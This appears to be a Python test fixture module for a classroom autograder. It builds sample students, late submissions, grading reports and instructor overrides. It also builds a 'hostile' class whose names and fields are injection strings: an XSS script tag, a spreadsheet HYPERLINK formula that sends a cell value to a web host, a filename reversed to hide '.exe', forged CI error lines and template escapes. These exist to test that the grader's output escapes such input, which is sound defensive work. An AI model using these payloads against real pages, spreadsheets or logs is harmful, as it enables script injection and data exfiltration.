"""A small class made by hand: every standing, and every text that breaks files elsewhere."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from grader.classroom.late import LatePolicy
from grader.classroom.model import Attempt, ClassResults, Override, Student
from grader.classroom.settings import ChallengeSettings, CourseSettings
from grader.classroom.totals import class_results
from grader.report.evidence import Picture, Table
from grader.report.json import document
from grader.report.model import Criterion, Output, Report
from grader.rubric import Finding, Where

MADRID = ZoneInfo("Europe/Madrid")
DUE = datetime(2026, 11, 6, 23, 59, tzinfo=MADRID)
NOW = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
BUCKET, SAVE, TRACKER = "02_s3_bucket", "05_save_to_s3", "08_tracker_dashboard"
TEN = LatePolicy("percent", per_day=Decimal(10), grace=timedelta(minutes=15))

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://example.org/"&A1,"marks")'
TURNED = "\u202egnp.exe\u202c \u200fana"
LINES = "ana\r\n=1+1\n::error::forged\n##[error]forged"
MARKUP = "]]> --> </style></pre> {{ 7 * 7 }} {% raw %} & \" '"
CONTROL = "\x00\x1b[31mred\x7f\ufeff\ufffe"
LONG = "0123456789" * 1000
SURROGATE = "a\ud800b"
HOSTILE = (SCRIPT, FORMULA, TURNED, LINES, MARKUP, CONTROL, LONG, SURROGATE)
STARTS = ("=1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1")

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63640060000000060001a5f645400000000049454e44ae426082"
)
SECOND_LOST = Finding(
    "The second capture replaced the first.",
    expected="two different keys",
    found="raw/iss/2031-03-17/20310317T101500Z.json",
    where=Where("lambdas/capturar_iss.py", 9, "NOW = datetime.now(timezone.utc)"),
    hint="Is the timestamp computed once, when the file is imported?",
)


def report(slug: str = SAVE, *rows: Criterion, **changes: Any) -> Report:
    """A report of three criteria with full marks, but for what is said."""
    full = (
        Criterion("deployed", "The Lambda and its bucket are deployed.", 20, 20, "passed"),
        Criterion("object", "Each run writes one object.", 50, 50, "passed"),
        Criterion("two", "Two captures leave two objects.", 30, 30, "passed"),
    )
    own = {row.id: row for row in rows}
    criteria = tuple(own.get(row.id, row) for row in full)
    made = Report(
        engine="0.1.0", challenge=int(slug[:2]), slug=slug, submission="sha256:" + "ab" * 32,
        max_score=100, seed=1, graded_on={"cloud": "MiniStack 1.5.33"}, criteria=criteria,
        seconds=1.5,
    )  # fmt: skip
    return replace(made, **changes)


def row(id: str, points: int, status: Any, *findings: Finding) -> Criterion:
    """A criterion of ``report`` with another verdict."""
    (found,) = (one for one in report().criteria if one.id == id)
    return replace(found, points=points, status=status, findings=findings)


def sheet(*rows: Criterion, slug: str = SAVE, **changes: Any) -> Mapping[str, Any]:
    """The document of a report."""
    return document(report(slug, *rows, **changes))


LOST = sheet(row("two", 0, "failed", SECOND_LOST))
PERSON = sheet(
    row("two", 0, "for_person", Finding("The design is for a person to judge.", found="3 colours")),
    slug=TRACKER,
    evidence=(
        Picture("at 375 pixels", PIXEL, 375, 812),
        Table("Errors in the page", ("second", "error"), (("1", "none"),)),
    ),
)
FAILED = sheet(
    row("object", 0, "error"), row("two", 0, "error"),
    errors=(Finding("A part of the grader stopped working.", hint="Run it again."),),
)  # fmt: skip
FULL = {slug: sheet(slug=slug) for slug in (BUCKET, SAVE, TRACKER)}


def settings(**changes: Any) -> CourseSettings:
    """Three challenges with the weights 1, 2 and 1, ten percent a day."""
    challenges = (
        ChallengeSettings(2, BUCKET, "A bucket, written down", Decimal(1), DUE, TEN),
        ChallengeSettings(5, SAVE, "Captures in the data lake", Decimal(2), DUE, TEN),
        ChallengeSettings(8, TRACKER, "The tracker", Decimal(1), DUE + timedelta(days=40), TEN),
    )
    return replace(CourseSettings("Cloud engineering", challenges), **changes)


def attempt(
    student: str, slug: str, days: float | None = -1, *, number: int = 1, **facts: Any
) -> Attempt:
    """Something handed in some days after the due time."""
    submitted = None if days is None else DUE.astimezone(UTC) + timedelta(days=days)
    facts.setdefault("report", FULL[slug])
    return Attempt(student, slug, number, submitted, NOW, **facts)


def by_key(*attempts: Attempt) -> dict[tuple[str, str], list[Attempt]]:
    """Attempts as totals take them."""
    found: dict[tuple[str, str], list[Attempt]] = {}
    for one in attempts:
        found.setdefault((one.student, one.slug), []).append(one)
    return found


def override(student: str, criterion: str, points: int, slug: str = SAVE, **facts: Any) -> Override:
    """What a person decided."""
    facts.setdefault("reason", "Talked it over.")
    facts.setdefault("when", NOW)
    return Override(student, slug, criterion, points, who="instructor", **facts)


STUDENTS = (
    Student("ana", "Ana", "ana@example.org", "A", folder="ana_1"),
    Student("s002", "Ñandú, Bo", "bo@example.org", "A", folder="s002"),
    Student("s003", "", "", "B"),
)
ATTEMPTS = by_key(
    attempt("ana", BUCKET),
    attempt("ana", SAVE, -3, report=LOST),
    attempt("ana", SAVE, 2.125, number=2),
    attempt("ana", TRACKER),
    attempt("s002", BUCKET, None),
    attempt("s002", SAVE, 1, report=FAILED),
    attempt("s002", TRACKER, report=PERSON),
    attempt(
        "s003", SAVE, report=None,
        refusal=Finding("The zip holds a path that leaves it.", found="../x", hint="Zip it anew."),
    ),
    attempt("s003", TRACKER, report=None),
)  # fmt: skip


def results(**changes: Any) -> ClassResults:
    """The class: one who is done, one who waits for the grader and a person, one in trouble."""
    return class_results(settings(**changes), STUDENTS, ATTEMPTS, (), NOW, "0.1.0")


def hostile() -> ClassResults:
    """A class in which every text tries to break out."""
    students = tuple(
        Student(f"h{n}", text, f"h{n}@example.org", text, folder=text)
        for n, text in enumerate((*HOSTILE, *STARTS))
    )
    attempts = []
    for student in students:
        text = student.name
        finding = Finding(text, text, text, Where(text, 3, text), text)
        said = (Output(text, text, (text,)),)
        seen = (Table("Errors", ("error",), ((text,),)),)
        rows = (row("object", 0, "failed", finding), row("two", 10, "partial", finding))
        written = sheet(*rows, output=said, advice=(finding,), evidence=seen)
        attempts += [
            attempt(student.id, BUCKET, report=None, refusal=finding),
            attempt(student.id, SAVE, report=written),
            attempt(student.id, TRACKER, report=None, failure=text),
        ]
    given = [override(student.id, "two", 20, reason=student.name) for student in students]
    return class_results(settings(title=SCRIPT), students, by_key(*attempts), given, NOW, "0.1.0")
